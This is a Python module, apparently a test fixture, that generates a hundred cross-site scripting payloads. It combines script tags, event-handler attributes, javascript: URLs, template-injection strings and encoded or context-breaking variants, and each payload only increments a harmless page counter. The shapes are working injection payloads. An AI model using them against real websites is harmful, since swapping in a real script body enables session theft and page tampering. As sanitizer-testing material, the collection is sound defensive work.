"""A hundred texts that would run a script in a page that took them for markup. Each counts up `window.hacked`."""

from __future__ import annotations

__all__ = ["PAYLOADS"]

_ALERT = "window.hacked=(window.hacked||0)+1"
_SHAPES = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "<!--<script>{}//",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    '"><img src=x onerror="{}">',
    "'><img src=x onerror='{}'>",
    "<iframe srcdoc='<script>parent.{}</script>'>",
    '<iframe src="javascript:{}">',
    "<body onload={}>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    '<a href="javascript:{}">x</a>',
    "javascript:{}",
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}",
    "<math><mtext><style><img src=x onerror={}></style></mtext></math>",
    "<template><script>{}</script></template>",
    "]]><script>{}</script>",
    "\u2028;{};\u2029",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "&lt;script&gt;{}&lt;/script&gt;",
    "<link rel=stylesheet href=http://127.0.0.1:9/x.css>{}",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
)
_WRAPPINGS = ("{}", "叶老桂{}博士", "\u202e{}", "</title></style></textarea></noscript>{}")
PAYLOADS = [wrapping.format(shape.format(_ALERT)) for shape in _SHAPES for wrapping in _WRAPPINGS]
